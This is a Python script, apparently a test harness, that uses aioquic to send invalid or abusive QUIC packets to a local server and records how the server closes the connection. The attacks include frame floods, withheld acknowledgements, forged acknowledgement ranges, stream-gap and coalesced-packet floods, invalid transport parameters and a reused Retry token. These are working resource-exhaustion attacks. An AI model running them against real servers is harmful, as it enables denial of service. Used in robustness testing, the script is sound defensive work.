"""Attacks a QUIC server with packets that no correct client sends, by the packet builder of aioquic.

Standard input:
    {"port": 443, "authority": "ca.pem", "attack": "path_challenges"}

The output has the end of the connection, and the number of bytes in both directions:
    {"code": 10, "sent": 1200, "received": 0}

The code is that of the server's CONNECTION_CLOSE (RFC 9000 section 20.1), or null if the
connection was still open after the attack. Only attacks without a handshake count received bytes.
"""

import asyncio
import json
import os
import socket
import sys
import time

from aioquic import tls
from aioquic.buffer import Buffer
from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated
from aioquic.quic.packet import QuicPacketType, pull_quic_header
from aioquic.quic.packet_builder import QuicPacketBuilder

# Frame types (RFC 9000 section 19).
ACK, CRYPTO, STREAM_OFFSET_LENGTH, RETIRE, NEW_ID, PATH_CHALLENGE = 0x2, 0x6, 0xE, 0x19, 0x18, 0x1A
# Bytes of frames in a packet.
ROOM = 1100


def integer(value):
    """A variable-length integer (section 16), always in eight bytes."""
    return (value | 0xC0 << 56).to_bytes(8, "big")


class Attacker(QuicConnectionProtocol):
    def __init__(self, *arguments, **named):
        super().__init__(*arguments, **named)
        self.end = None
        self.sent = 0

    def quic_event_received(self, event):
        if isinstance(event, ConnectionTerminated):
            self.end = event

    def send(self, frames):
        """Sends frames, each a type and the bytes after it, in one packet that is not repeated."""
        quic = self._quic
        builder = QuicPacketBuilder(
            host_cid=quic.host_cid,
            peer_cid=quic._peer_cid.cid,
            version=quic._version,
            is_client=True,
            max_datagram_size=1350,
            packet_number=quic._packet_number,
        )
        builder.start_packet(QuicPacketType.ONE_RTT, quic._cryptos[tls.Epoch.ONE_RTT])
        for kind, payload in frames:
            builder.start_frame(kind, capacity=1 + len(payload)).push_bytes(payload)
        datagrams, _ = builder.flush()
        quic._packet_number = builder.packet_number
        for datagram in datagrams:
            self.sent += len(datagram)
            self._transport.sendto(datagram, quic._network_paths[0].addr)

    async def flood(self, packets, frames):
        """Sends many packets of as many frames as fit, until the server closes."""
        number = 0
        for packet in range(packets):
            if self.end:
                return
            size = len(frames(number)[1]) + 1
            self.send([frames(number + index) for index in range(ROOM // size)])
            number += ROOM // size
            # Lets the server's packets in.
            await asyncio.sleep(0.001 if packet % 8 == 0 else 0)

    def withhold_acknowledgements(self):
        """Shrinks the server's congestion window, so that its confirmations wait."""

        def nothing(builder, space, now):
            space.ack_at = None

        self._quic._write_ack_frame = nothing

    async def closed(self):
        for _ in range(20):
            if self.end:
                return
            await asyncio.sleep(0.05)


async def unknown_frame(client):
    client.send([(0x21, b"")])


async def path_challenges(client):
    client.withhold_acknowledgements()
    await client.flood(4000, lambda number: (PATH_CHALLENGE, number.to_bytes(8, "big")))


async def new_connection_ids(client):
    """Every identifier retires those before it, and the server has to confirm each."""
    client.withhold_acknowledgements()

    def frame(number):
        sequence = integer(number + 100)
        return NEW_ID, sequence + sequence + b"\x08" + os.urandom(8) + os.urandom(16)

    await client.flood(4000, frame)


async def retired_connection_ids(client):
    await client.flood(4000, lambda number: (RETIRE, integer(number)))


async def crypto_frames(client):
    """Messages of TLS after the handshake, with a gap before them."""
    await client.flood(4000, lambda number: (CRYPTO, integer(1 + 600 * number) + b"\x42\x00" + bytes(512)))


async def unsent_packets_acknowledged(client):
    client.send([(ACK, integer(1 << 40) + b"\x00\x00" + integer(1 << 39))])


async def all_packets_acknowledged(client):
    """Acknowledges a range that has the packet numbers which the server skipped (section 21.4)."""
    space = client._quic._spaces[tls.Epoch.ONE_RTT]
    for _ in range(3000):
        if client.end:
            return
        largest = space.largest_received_packet
        client.send([(ACK, integer(largest) + b"\x00\x00" + integer(largest)), (0x1, b"")])
        await asyncio.sleep(0.001)


async def stream_gaps(client):
    """Every second byte of many streams, so that nothing can be put together."""

    def frame(number):
        stream, position = 4 * (number // 20_000), number % 20_000
        return STREAM_OFFSET_LENGTH, integer(stream) + integer(1 + 2 * position) + b"\x01a"

    await client.flood(10_000, frame)


ATTACKS = {
    name: attack
    for name, attack in list(globals().items())
    if asyncio.iscoroutinefunction(attack)
}


PARAMETERS = {
    "max_ack_delay": (0x0B, integer(1 << 40)),
    "ack_delay_exponent": (0x0A, integer(21)),
    "max_udp_payload_size": (0x03, integer(1)),
    "active_connection_id_limit": (0x0E, integer(0)),
    "initial_max_streams_bidi": (0x08, integer(1 << 61)),
    "initial_max_data": (0x04, b"\xc0"),
    "stateless_reset_token": (0x02, b"short"),
    "preferred_address": (0x0D, b"\x00"),
}


def send_invalid_parameter(identifier, value):
    """Replaces a transport parameter (section 18.2) by one with an invalid value."""
    valid = QuicConnection._serialize_transport_parameters

    def invalid(quic):
        parameters, written = Buffer(data=valid(quic)), b""
        while not parameters.eof():
            name = parameters.pull_uint_var()
            text = parameters.pull_bytes(parameters.pull_uint_var())
            if name != identifier:
                written += integer(name) + integer(len(text)) + text
        return written + integer(identifier) + integer(len(value)) + value

    QuicConnection._serialize_transport_parameters = invalid


class Handshake:
    """The first flight of a connection, from a socket whose owner sends nothing else."""

    def __init__(self, scenario, token=b""):
        configuration = QuicConfiguration(
            is_client=True, alpn_protocols=["h3"], server_name="localhost", token=token
        )
        self.server = ("127.0.0.1", scenario["port"])
        self.quic = QuicConnection(configuration=configuration)
        self.quic.connect(self.server, now=time.time())
        self.datagrams = [data for data, _ in self.quic.datagrams_to_send(now=time.time())]

    def exchange(self, seconds):
        """Sends the flight and returns what the server sends within this time."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
            for datagram in self.datagrams:
                own.sendto(datagram, self.server)
            received, end = [], time.monotonic() + seconds
            while (left := end - time.monotonic()) > 0:
                own.settimeout(left)
                try:
                    received.append(own.recv(65536))
                except TimeoutError:
                    break
            return received


def result(code, sent, received):
    return {"code": code, "sent": sum(map(len, sent)), "received": sum(map(len, received))}


def unanswered_handshake(scenario):
    handshake = Handshake(scenario)
    return result(None, handshake.datagrams, handshake.exchange(4))


def coalesced_packets(scenario):
    """Datagrams with further packets, each for a connection of its own, after a valid one."""

    def other():
        head = b"\xc0\x00\x00\x00\x01\x08" + os.urandom(8)
        return head + b"\x00\x00\x40\xc8" + os.urandom(200)

    handshakes = [Handshake(scenario) for _ in range(100)]
    sent = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        for number in range(5000):
            [first, *_] = handshakes[number % len(handshakes)].datagrams
            sent.append(first + b"".join(other() for _ in range(5)))
            own.sendto(sent[-1], handshakes[0].server)
    return result(None, sent, [])


def foreign_retry_token(scenario):
    """Sends the token of a Retry packet from another port than the one that received it."""
    [retry, *_] = Handshake(scenario).exchange(1)
    token = pull_quic_header(Buffer(data=retry), host_cid_length=8).token
    handshake = Handshake(scenario, token)
    received = handshake.exchange(1)
    for datagram in received:
        handshake.quic.receive_datagram(datagram, handshake.server, now=time.time())
    end = handshake.quic._close_event
    return result(end.error_code if end else None, handshake.datagrams, received)


WITHOUT_HANDSHAKE = [unanswered_handshake, coalesced_packets, foreign_retry_token]


async def main(scenario):
    attack = scenario["attack"]
    for function in WITHOUT_HANDSHAKE:
        if function.__name__ == attack:
            return function(scenario)
    configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], server_name="localhost")
    configuration.load_verify_locations(cafile=scenario["authority"])
    if attack in PARAMETERS:
        send_invalid_parameter(*PARAMETERS[attack])
    client = None

    def create(*arguments, **named):
        nonlocal client
        client = Attacker(*arguments, **named)
        return client

    try:
        async with connect("127.0.0.1", scenario["port"], configuration=configuration, create_protocol=create):
            if attack in ATTACKS:
                await ATTACKS[attack](client)
            await client.closed()
            end = client.end
    except ConnectionError:
        end = client.end
    return {"code": end.error_code if end else None, "sent": client.sent, "received": 0}


print(json.dumps(asyncio.run(main(json.load(sys.stdin)))))
